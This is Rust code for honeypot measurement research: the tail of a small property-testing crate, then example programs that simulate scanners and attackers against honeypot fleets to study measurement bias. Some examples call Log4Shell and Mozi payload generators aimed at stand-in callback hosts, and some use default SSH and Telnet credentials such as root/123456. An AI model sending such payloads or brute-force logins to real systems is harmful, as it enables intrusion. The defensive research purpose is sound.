            atoms.push(Atom { set, min, max });
        }
        atoms
    }

    /// Sample one string matching `pattern` (see module docs for the
    /// supported subset).
    pub fn sample_regex(pattern: &str, rng: &mut TestRng) -> String {
        let mut out = String::new();
        for atom in parse(pattern) {
            let span = (atom.max - atom.min) as u64;
            let n = atom.min + if span == 0 { 0 } else { rng.below(span + 1) as usize };
            let members = atom.set.members();
            assert!(
                !members.is_empty() || n == 0,
                "empty character class in pattern {pattern:?}"
            );
            for _ in 0..n {
                out.push(members[rng.below(members.len() as u64) as usize] as char);
            }
        }
        out
    }
}

/// Everything a property test needs: `use proptest::prelude::*;`.
pub mod prelude {
    pub use crate::arbitrary::any;
    pub use crate::strategy::{Just, Strategy};
    pub use crate::test_runner::Config as ProptestConfig;
    pub use crate::{prop_assert, prop_assert_eq, prop_assert_ne, prop_assume, proptest};

    /// The `prop::` namespace (`prop::collection`, `prop::sample`, …).
    pub mod prop {
        pub use crate::collection;
        pub use crate::sample;
    }
}

/// Reject the current case (resample without counting it).
#[macro_export]
macro_rules! prop_assume {
    ($cond:expr) => {
        if !($cond) {
            return ::std::result::Result::Err($crate::test_runner::TestCaseError::Reject);
        }
    };
}

/// Assert within a property test; failure reports the sampled arguments.
#[macro_export]
macro_rules! prop_assert {
    ($cond:expr) => {
        if !($cond) {
            return ::std::result::Result::Err($crate::test_runner::TestCaseError::Fail(
                format!("assertion failed: {}", stringify!($cond)),
            ));
        }
    };
    ($cond:expr, $($fmt:tt)+) => {
        if !($cond) {
            return ::std::result::Result::Err($crate::test_runner::TestCaseError::Fail(
                format!($($fmt)+),
            ));
        }
    };
}

/// Equality assertion within a property test.
#[macro_export]
macro_rules! prop_assert_eq {
    ($left:expr, $right:expr $(,)?) => {{
        let (l, r) = (&$left, &$right);
        if !(*l == *r) {
            return ::std::result::Result::Err($crate::test_runner::TestCaseError::Fail(
                format!("assertion failed: `{:?}` == `{:?}`", l, r),
            ));
        }
    }};
}

/// Inequality assertion within a property test.
#[macro_export]
macro_rules! prop_assert_ne {
    ($left:expr, $right:expr $(,)?) => {{
        let (l, r) = (&$left, &$right);
        if !(*l != *r) {
            return ::std::result::Result::Err($crate::test_runner::TestCaseError::Fail(
                format!("assertion failed: `{:?}` != `{:?}`", l, r),
            ));
        }
    }};
}

/// Define property tests: each `#[test] fn name(arg in strategy, ...)`
/// becomes a test that samples its arguments `cases` times.
#[macro_export]
macro_rules! proptest {
    (@with_config ($cfg:expr)
        $(
            $(#[$meta:meta])+
            fn $name:ident ( $($arg:ident in $strat:expr),* $(,)? ) $body:block
        )*
    ) => {
        $(
            $(#[$meta])+
            fn $name() {
                let config: $crate::test_runner::Config = $cfg;
                let mut rng = $crate::test_runner::TestRng::for_test(
                    concat!(module_path!(), "::", stringify!($name)),
                );
                let mut accepted: u32 = 0;
                let mut attempts: u64 = 0;
                while accepted < config.cases {
                    attempts += 1;
                    assert!(
                        attempts <= (config.cases as u64) * 32 + 1024,
                        "proptest: too many cases rejected by prop_assume!"
                    );
                    $(let $arg = $crate::strategy::Strategy::sample(&($strat), &mut rng);)*
                    // Render args before the body runs: the body may move them.
                    let sampled = ::std::format!("{:?}", ($(&$arg,)*));
                    let outcome = (move || -> ::std::result::Result<(), $crate::test_runner::TestCaseError> {
                        $body
                        ::std::result::Result::Ok(())
                    })();
                    match outcome {
                        ::std::result::Result::Ok(()) => accepted += 1,
                        ::std::result::Result::Err($crate::test_runner::TestCaseError::Reject) => {}
                        ::std::result::Result::Err($crate::test_runner::TestCaseError::Fail(msg)) => {
                            panic!(
                                "proptest case #{} failed: {}\n  sampled args: {}",
                                accepted + 1,
                                msg,
                                sampled
                            );
                        }
                    }
                }
            }
        )*
    };
    (#![proptest_config($cfg:expr)] $($rest:tt)*) => {
        $crate::proptest!(@with_config ($cfg) $($rest)*);
    };
    ($($rest:tt)*) => {
        $crate::proptest!(@with_config ($crate::test_runner::Config::default()) $($rest)*);
    };
}
