//! §7 "Firewalls": how a transparent IPS middlebox distorts honeypot
//! measurements. Two identical honeypot fleets receive identical attacker
//! traffic; one sits behind an IPS. Compare what each *measures*.
//!
//! ```sh
//! cargo run --release --example firewall_bias
//! ```

use cloud_watching::detection::{RuleSet, Verdict};
use cloud_watching::honeypot::firewall::Firewall;
use cloud_watching::honeypot::framework::{HoneypotListener, Persona, PortPolicy};
use cloud_watching::netsim::engine::Engine;
use cloud_watching::netsim::flow::{ConnectionIntent, LoginService};
use cloud_watching::netsim::rng::SimRng;
use cloud_watching::netsim::time::{SimDuration, SimTime};
use cloud_watching::scanners::campaign::{Campaign, Pacing};
use cloud_watching::scanners::identity::ActorIdentity;
use std::cell::RefCell;
use std::net::Ipv4Addr;
use std::rc::Rc;

fn fleet(name: &str, base: [u8; 4]) -> (HoneypotListener, Vec<Ipv4Addr>) {
    let ips: Vec<Ipv4Addr> = (0..16)
        .map(|i| Ipv4Addr::new(base[0], base[1], base[2], base[3] + i))
        .collect();
    let hp = HoneypotListener::new(name, ips.clone(), PortPolicy::FirstPayload)
        .with_policy(22, PortPolicy::Interactive(LoginService::Ssh))
        .with_persona(80, Persona::http());
    (hp, ips)
}

fn attack_both(engine: &mut Engine, targets_a: &[Ipv4Addr], targets_b: &[Ipv4Addr]) {
    let mut rng = SimRng::seed_from_u64(99);
    let mut targets = Vec::new();
    for &ip in targets_a.iter().chain(targets_b) {
        targets.push((ip, 80));
        targets.push((ip, 80));
        targets.push((ip, 22));
    }
    rng.shuffle(&mut targets);
    let pacing = Pacing::spread(&mut rng, targets.len(), SimDuration::WEEK);
    let campaign = Campaign::new(
        ActorIdentity::new(
            "mixed-attacker",
            cloud_watching::netsim::asn::Asn(4134),
            "CN",
            vec![Ipv4Addr::new(100, 50, 0, 1)],
        ),
        rng,
        targets,
        pacing,
        Box::new(|rng, _, port| {
            if port == 22 {
                ConnectionIntent::Login {
                    service: LoginService::Ssh,
                    username: "root".into(),
                    password: "123456".into(),
                }
            } else if rng.chance(0.4) {
                ConnectionIntent::Payload(cloud_watching::scanners::exploits::log4shell(
                    "203.0.113.1:1389",
                ))
            } else {
                ConnectionIntent::Payload(cloud_watching::scanners::exploits::benign_get(
                    "zgrab/0.x",
                ))
            }
        }),
    );
    let start = campaign.start_time();
    engine.add_agent(Box::new(campaign), start);
}

fn measured_malicious_pct(cap: &cloud_watching::honeypot::capture::Capture) -> (usize, f64) {
    let rules = RuleSet::builtin();
    let interner_rc = cap.interner();
    let interner = interner_rc.borrow();
    let mut attackers = 0usize;
    let mut total = 0usize;
    for e in cap.events() {
        total += 1;
        let verdict = match e.observed {
            cloud_watching::honeypot::capture::Observed::Credentials { .. } => Verdict::Attacker,
            cloud_watching::honeypot::capture::Observed::Payload(p) => {
                if cloud_watching::detection::is_malicious_payload(
                    interner.payload(p),
                    e.dst_port,
                    &rules,
                ) {
                    Verdict::Attacker
                } else {
                    Verdict::Scanner
                }
            }
            _ => Verdict::Scanner,
        };
        if verdict == Verdict::Attacker {
            attackers += 1;
        }
    }
    (
        total,
        if total == 0 {
            0.0
        } else {
            100.0 * attackers as f64 / total as f64
        },
    )
}

fn main() {
    let mut engine = Engine::new();

    // Fleet A: directly exposed.
    let (hp_a, ips_a) = fleet("exposed", [10, 50, 0, 0]);
    let cap_a = hp_a.capture();
    engine.add_listener(Rc::new(RefCell::new(hp_a)));

    // Fleet B: identical, but behind a transparent IPS.
    let (hp_b, ips_b) = fleet("behind-ips", [10, 51, 0, 0]);
    let cap_b = hp_b.capture();
    let fw = Firewall::new("campus-ips", Rc::new(RefCell::new(hp_b))).with_ips(RuleSet::builtin());
    let fw = Rc::new(RefCell::new(fw));
    engine.add_listener(fw.clone());

    attack_both(&mut engine, &ips_a, &ips_b);
    engine.run(SimTime::ZERO + SimDuration::WEEK);

    let (total_a, pct_a) = measured_malicious_pct(&cap_a.borrow());
    let (total_b, pct_b) = measured_malicious_pct(&cap_b.borrow());
    let fw = fw.borrow();

    println!("identical traffic aimed at both fleets:\n");
    println!("  exposed fleet measured    : {total_a} events, {pct_a:.0}% malicious");
    println!("  behind-IPS fleet measured : {total_b} events, {pct_b:.0}% malicious");
    println!(
        "  the middlebox silently dropped {} flows ({} passed)",
        fw.dropped(),
        fw.passed()
    );
    println!(
        "\na researcher comparing these fleets would conclude the IPS network is \
         attacked {:.1}x less — §7's confound, now quantified.",
        pct_a / pct_b.max(1.0)
    );
    assert!(pct_a > pct_b, "the IPS must suppress measured maliciousness");
}
