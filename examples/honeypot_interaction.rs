//! The instruments up close, without the simulation: drive a Cowrie session
//! byte by byte, fingerprint first payloads like LZR, and run exploits
//! through the Suricata-like rule engine.
//!
//! ```sh
//! cargo run --example honeypot_interaction
//! ```

use cloud_watching::detection::RuleSet;
use cloud_watching::honeypot::cowrie::{client_script, Session};
use cloud_watching::netsim::flow::LoginService;
use cloud_watching::protocols;

fn show(direction: &str, bytes: &[u8]) {
    let printable: String = bytes
        .iter()
        .map(|&b| {
            if (0x20..0x7F).contains(&b) || b == b'\n' {
                b as char
            } else {
                '.'
            }
        })
        .collect();
    println!("  {direction} {printable:?}");
}

fn main() {
    // 1. A Telnet brute-force dialogue against the Cowrie state machine.
    println!("— Cowrie Telnet session —");
    let mut session = Session::new(LoginService::Telnet);
    show("S>", &session.server_greeting());
    for msg in client_script(LoginService::Telnet, "root", "xc3511") {
        show("C>", &msg);
        let reply = session.feed(&msg);
        show("S>", &reply);
    }
    let cred = session.harvested().expect("credentials harvested");
    println!("  harvested: {}/{}\n", cred.username, cred.password);

    // 2. LZR-style fingerprinting: what protocol is this first payload?
    println!("— first-payload fingerprinting (§6) —");
    let samples: Vec<(&str, Vec<u8>)> = vec![
        ("plain GET to port 80", protocols::HttpRequest::new("GET", "/").to_bytes()),
        ("TLS ClientHello to port 80", protocols::tls::build_client_hello(7, None)),
        ("SMB negotiate to port 8080", protocols::smb::build_negotiate()),
        ("Redis command to port 80", protocols::redis::build_command(&["INFO"])),
    ];
    for (desc, payload) in &samples {
        println!(
            "  {desc:<28} → {}",
            protocols::fingerprint(payload)
                .map(|p| p.label())
                .unwrap_or("unknown")
        );
    }

    // 3. The vetted ruleset deciding maliciousness (§3.2).
    println!("\n— rule engine verdicts —");
    let rules = RuleSet::builtin();
    let cases: Vec<(&str, Vec<u8>, u16)> = vec![
        (
            "Log4Shell probe",
            cloud_watching::scanners::exploits::log4shell("198.51.100.1:1389"),
            80,
        ),
        (
            "Mozi spreader",
            cloud_watching::scanners::exploits::mozi_spreader("198.51.100.2"),
            8080,
        ),
        (
            "benign zgrab GET",
            cloud_watching::scanners::exploits::benign_get("zgrab/0.x"),
            80,
        ),
        (
            "nmap fingerprint probe",
            cloud_watching::scanners::exploits::nmap_probe(),
            80,
        ),
    ];
    for (desc, payload, port) in &cases {
        let hits = rules.matches(payload, *port);
        println!(
            "  {desc:<22} → {} {}",
            if rules.is_malicious(payload, *port) {
                "MALICIOUS"
            } else {
                "not malicious"
            },
            if hits.is_empty() {
                String::new()
            } else {
                format!(
                    "(rules: {})",
                    hits.iter()
                        .map(|r| r.msg.as_str())
                        .collect::<Vec<_>>()
                        .join("; ")
                )
            }
        );
    }
}
