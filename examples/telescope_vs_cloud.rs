//! The telescope blind spot (§5.2) and the address-structure preferences
//! (§4.2 / Figure 1), in one run.
//!
//! ```sh
//! cargo run --release --example telescope_vs_cloud
//! ```

use cloud_watching::core::figure1;
use cloud_watching::core::overlap;
use cloud_watching::core::scenario::{Scenario, ScenarioConfig};
use cloud_watching::netsim::ip::IpExt;
use cloud_watching::scanners::population::ScenarioYear;

fn main() {
    let s = Scenario::run(ScenarioConfig::fast(ScenarioYear::Y2021).with_scale(0.3));
    let tel = s.telescope.borrow();

    println!("— telescope avoidance (Table 8 shape) —");
    for row in overlap::table8(&s.dataset, &s.deployment, &tel) {
        if let Some(tc) = row.tel_cloud {
            println!(
                "  port {:>5}: {:>4.0}% of cloud-targeting scanner IPs also hit the telescope",
                row.port, tc
            );
        }
    }

    println!("\n— attacker avoidance (Table 9 shape) —");
    for row in overlap::table9(&s.dataset, &s.deployment, &tel) {
        if let Some(tc) = row.tel_cloud {
            println!("  port {:>5}: {:>4.0}% of *attacker* IPs hit the telescope", row.port, tc);
        }
    }

    println!("\n— address-structure preferences (Figure 1 shape) —");
    if let Some(pref) = figure1::slash16_first_preference(&tel, 22) {
        println!("  port 22: first-of-/16 addresses drawn {pref:.1}x more scanners");
    }
    if let Some(stats) = figure1::structure_stats(&tel, 445, |ip| ip.has_255_octet()) {
        println!(
            "  port 445: 255-octet addresses avoided {:.1}x",
            stats.avoidance_factor
        );
    }
    for port in [22u16, 445, 80, 17_128] {
        if let Some(fig) = figure1::series(&tel, port) {
            println!(
                "  port {:>5} |{}|",
                port,
                figure1::ascii_sparkline(&fig.rolling, 72)
            );
        }
    }
}
