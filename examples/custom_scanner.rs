//! Extending the library: define a custom scanner archetype (an agent that
//! only targets IP addresses whose last octet is prime), run it against the
//! deployment, and verify the bias with the paper's statistical machinery.
//!
//! ```sh
//! cargo run --release --example custom_scanner
//! ```

use cloud_watching::honeypot::deployment::Deployment;
use cloud_watching::netsim::asn::Asn;
use cloud_watching::netsim::engine::{Agent, Engine, Network};
use cloud_watching::netsim::flow::{ConnectionIntent, FlowSpec};
use cloud_watching::netsim::time::{SimDuration, SimTime};
use cloud_watching::stats::{chi_squared_from_table, ContingencyTable};
use std::net::Ipv4Addr;

/// A scanner that believes services live at prime last-octets.
struct PrimeScanner {
    targets: Vec<Ipv4Addr>,
    cursor: usize,
}

fn is_prime(n: u8) -> bool {
    if n < 2 {
        return false;
    }
    (2..=((n as f64).sqrt() as u8)).all(|d| !n.is_multiple_of(d))
}

impl Agent for PrimeScanner {
    fn name(&self) -> &str {
        "prime-scanner"
    }
    fn on_wake(&mut self, now: SimTime, net: &mut dyn Network) -> Option<SimTime> {
        for _ in 0..64 {
            if self.cursor >= self.targets.len() {
                return None;
            }
            let dst = self.targets[self.cursor];
            self.cursor += 1;
            net.send(FlowSpec {
                src: Ipv4Addr::new(100, 99, 0, 1),
                src_asn: Asn(64_999),
                dst,
                dst_port: 80,
                intent: ConnectionIntent::ProbeOnly,
            });
        }
        Some(now + SimDuration::MINUTE)
    }
}

fn main() {
    // Deploy the standard fleet and aim the custom scanner at the
    // Hurricane Electric /24 (256 honeypots = a full octet range).
    let deployment = Deployment::standard();
    let he = deployment
        .topology
        .block("greynoise/he/US-OH")
        .expect("HE block");
    let targets: Vec<Ipv4Addr> = he
        .iter()
        .filter(|ip| is_prime(ip.octets()[3]))
        .collect();
    println!("prime-addressed targets in the /24: {}", targets.len());

    let mut engine = Engine::new();
    deployment.register(&mut engine);
    engine.add_agent(
        Box::new(PrimeScanner {
            targets,
            cursor: 0,
        }),
        SimTime::ZERO,
    );
    engine.run(SimTime::ZERO + SimDuration::DAY);

    // Measure: do prime and non-prime honeypots see different volumes?
    let capture = deployment
        .honeypot("greynoise/he/US-OH")
        .expect("HE honeypot")
        .borrow()
        .capture();
    let capture = capture.borrow();
    let (mut prime_hits, mut other_hits) = (0u64, 0u64);
    for e in capture.events() {
        if is_prime(e.dst.octets()[3]) {
            prime_hits += 1;
        } else {
            other_hits += 1;
        }
    }
    println!("hits on prime octets: {prime_hits}, on the rest: {other_hits}");

    // The §3.3 machinery confirms the structure preference: compare the
    // observed split against a uniform-scan expectation.
    let n_prime = (0u8..=255).filter(|&n| is_prime(n)).count() as u64;
    let n_other = 256 - n_prime;
    let expected_uniform = vec![
        (prime_hits + other_hits) * n_prime / 256,
        (prime_hits + other_hits) * n_other / 256,
    ];
    let table = ContingencyTable::new(
        vec!["prime".into(), "other".into()],
        vec![vec![prime_hits, other_hits], expected_uniform],
    );
    let result = chi_squared_from_table(&table).expect("testable");
    println!(
        "chi² = {:.1}, p = {:.2e} → the structure preference is {}",
        result.statistic,
        result.p_value,
        if result.significant(0.05) {
            "statistically detectable (as §4.2 detects .255-avoidance)"
        } else {
            "not detectable at this volume"
        }
    );
}
