//! The §4.3 search-engine leak experiment as a standalone program: deploy
//! control / previously-leaked / leaked honeypots, let Censys and Shodan
//! index what they are allowed to see, and watch miners converge.
//!
//! ```sh
//! cargo run --release --example leak_experiment
//! ```

use cloud_watching::core::leak::{run, LeakConfig, LeakGroup, LeakService};
use cloud_watching::netsim::time::SimDuration;

fn main() {
    let outcome = run(&LeakConfig {
        seed: 2023,
        scale: 1.0,
        horizon: SimDuration::WEEK,
        ..LeakConfig::default()
    });

    println!("fold increase in traffic/hour vs the control group\n");
    println!(
        "{:<10} {:>9} {:>14} {:>14} {:>14}",
        "service", "traffic", "Censys-leaked", "Shodan-leaked", "prev-leaked"
    );
    for svc in LeakService::ALL {
        for malicious in [false, true] {
            let fold = |g: LeakGroup| {
                outcome
                    .cells
                    .iter()
                    .find(|c| c.service == svc && c.group == g && c.malicious_only == malicious)
                    .map(|c| {
                        format!(
                            "{:.1}{}{}",
                            c.fold,
                            if c.mwu_significant { "†" } else { "" },
                            if c.ks_different { "*" } else { "" }
                        )
                    })
                    .unwrap_or_default()
            };
            println!(
                "{:<10} {:>9} {:>14} {:>14} {:>14}",
                if malicious { "" } else { svc.label() },
                if malicious { "malicious" } else { "all" },
                fold(LeakGroup::CensysLeaked(svc)),
                fold(LeakGroup::ShodanLeaked(svc)),
                fold(LeakGroup::PreviouslyLeaked),
            );
        }
    }
    println!("\n† one-sided Mann–Whitney U significant · * KS detects spikes");

    let (leaked, control) = outcome.ssh_unique_passwords;
    println!(
        "\nunique SSH passwords: {leaked:.0} at leaked services vs {control:.0} at control \
         — search-engine listings draw deeper brute force"
    );

    // Show one hourly series so the 'spike' phenomenon is visible.
    let key = (
        LeakGroup::ShodanLeaked(LeakService::Http80),
        LeakService::Http80,
    );
    if let Some(hourly) = outcome.hourly.get(&key) {
        let spikes = hourly.iter().filter(|&&v| v > 3.0).count();
        println!(
            "\nShodan-leaked HTTP hourly profile: {} of {} hours are burst hours (>3 events/IP)",
            spikes,
            hourly.len()
        );
    }
}
