//! Quickstart: simulate a week of Internet scanning against the paper's
//! vantage fleet and poke at the collected data.
//!
//! ```sh
//! cargo run --release --example quickstart
//! ```

use cloud_watching::core::compare::CharKind;
use cloud_watching::core::dataset::TrafficSlice;
use cloud_watching::core::scenario::{Scenario, ScenarioConfig};
use cloud_watching::scanners::population::ScenarioYear;
use cloud_watching::stats::topk::top_k_of;

fn main() {
    // 1. Run a reduced-scale July-2021 scenario (full scale is `paper()`).
    let scenario = Scenario::run(ScenarioConfig::fast(ScenarioYear::Y2021));
    println!(
        "simulated week: {} flows delivered, {} honeypot events, {} telescope packets",
        scenario.stats.flows_delivered,
        scenario.dataset.len(),
        scenario.telescope.borrow().total_packets(),
    );

    // 2. Who scans a Singapore cloud honeypot's SSH port?
    let sg_ips: Vec<_> = scenario
        .deployment
        .vantages
        .iter()
        .filter(|v| v.id.starts_with("greynoise/aws/AP-SG"))
        .map(|v| v.ip)
        .collect();
    // Questions about the dataset are query expressions (docs/QUERY.md):
    // predicates run on the interned ID columns, strings appear only in
    // the rendered answer.
    let sg_ssh = scenario
        .dataset
        .query()
        .at(&sg_ips)
        .slice(TrafficSlice::SshPort22);
    let who = sg_ssh.char_freqs(CharKind::TopAs);
    println!("\nAWS Singapore SSH/22 — top scanning ASes:");
    for asn in top_k_of(&who, 3) {
        println!(
            "  {:<10} {:>6} connections  ({})",
            asn,
            who[&asn],
            scenario.handles.registry.name_of(cloud_watching::netsim::asn::Asn(
                asn.trim_start_matches("AS").parse().unwrap()
            ))
        );
    }

    // 3. What credentials do attackers try there?
    let usernames = sg_ssh.char_freqs(CharKind::TopUsername);
    println!("\nAWS Singapore SSH/22 — top usernames:");
    for u in top_k_of(&usernames, 3) {
        println!("  {:<12} {:>6} attempts", u, usernames[&u]);
    }

    // 4. How much of the traffic is verifiably malicious (§3.2)?
    let events = sg_ssh.classified();
    let (attackers, scanners) = cloud_watching::core::axes::maliciousness_counts(&events);
    println!(
        "\nmaliciousness: {attackers} attacker events vs {scanners} scanner events \
         ({:.0}% malicious)",
        100.0 * attackers as f64 / (attackers + scanners).max(1) as f64
    );

    // 5. And the headline: how many SSH scanners also touch the telescope?
    let tel = scenario.telescope.borrow();
    let cloud_ips = cloud_watching::core::overlap::cloud_ips(&scenario.deployment);
    let srcs = scenario.dataset.query().at(&cloud_ips).port(22).distinct_srcs();
    let overlap = srcs
        .iter()
        .filter(|&&s| tel.saw_source_on_port(s, 22))
        .count();
    println!(
        "\ntelescope avoidance: only {overlap}/{} cloud-SSH scanner IPs also appear in \
         the telescope (the §5.2 blind spot)",
        srcs.len()
    );
}
