//! §7 "Honeypot Fingerprinting": a scanner that banner-grabs before
//! attacking never shows up in Cowrie's credential logs — the
//! sophisticated-attacker blind spot the paper warns about.
//!
//! ```sh
//! cargo run --release --example fingerprinting_scanner
//! ```

use cloud_watching::honeypot::capture::Observed;
use cloud_watching::honeypot::deployment::Deployment;
use cloud_watching::netsim::asn::Asn;
use cloud_watching::netsim::engine::Engine;
use cloud_watching::netsim::rng::SimRng;
use cloud_watching::netsim::time::{SimDuration, SimTime};
use cloud_watching::scanners::bruteforce::{build, BruteforceProfile, GeoScope};
use cloud_watching::scanners::fingerprinting::FingerprintingScanner;
use cloud_watching::scanners::identity::ActorIdentity;
use cloud_watching::scanners::targets::TargetUniverse;
use std::net::Ipv4Addr;

fn main() {
    let deployment = Deployment::standard();
    let universe = TargetUniverse::from_deployment(&deployment);
    let mut engine = Engine::new();
    deployment.register(&mut engine);

    // A naive brute-forcer and a fingerprinting one, same target universe.
    let mut rng = SimRng::seed_from_u64(4242);
    let naive = build(
        &BruteforceProfile {
            name: "naive-bf".into(),
            count: 1,
            service: cloud_watching::netsim::flow::LoginService::Ssh,
            ports: vec![22],
            dictionary: cloud_watching::scanners::credentials::SSH_GLOBAL,
            scope: GeoScope::Global,
            service_rate: 1.0,
            attempts_per_target: 1,
            p_telescope: 0.0,
            telescope_sample: 0,
        },
        &universe,
        &mut rng,
        |_n| vec![Ipv4Addr::new(100, 60, 0, 1)],
        &mut |_r| (Asn(4134), "CN".to_string()),
    );
    for c in naive {
        let start = c.start_time();
        engine.add_agent(Box::new(c), start);
    }

    let fp = FingerprintingScanner::new(
        ActorIdentity::new("careful-bf", Asn(53_667), "US", vec![Ipv4Addr::new(100, 61, 0, 1)]),
        SimRng::seed_from_u64(7),
        universe.all_service_ips(),
    );
    engine.add_agent(Box::new(fp), SimTime(60));

    engine.run(SimTime::ZERO + SimDuration::WEEK);

    // What did the GreyNoise Cowrie sensors record?
    let mut creds_naive = 0usize;
    let mut creds_careful = 0usize;
    let mut probes_careful = 0usize;
    for hp in &deployment.honeypots {
        let cap = hp.borrow().capture();
        let cap = cap.borrow();
        for e in cap.events() {
            let careful = e.src == Ipv4Addr::new(100, 61, 0, 1);
            match e.observed {
                Observed::Credentials { .. } => {
                    if careful {
                        creds_careful += 1;
                    } else {
                        creds_naive += 1;
                    }
                }
                _ if careful => probes_careful += 1,
                _ => {}
            }
        }
    }
    println!("credential attempts recorded by Cowrie sensors:");
    println!("  naive brute-forcer     : {creds_naive}");
    println!("  fingerprinting scanner : {creds_careful} (it sent {probes_careful} banner grabs)");
    println!(
        "\nthe fingerprinting scanner is invisible in the credential logs — exactly the \
         §7 bias: honeypot studies undercount attackers sophisticated enough to check \
         the SSH banner first."
    );
    assert_eq!(creds_careful, 0);
    assert!(creds_naive > 100);
    assert!(probes_careful > 100);
}
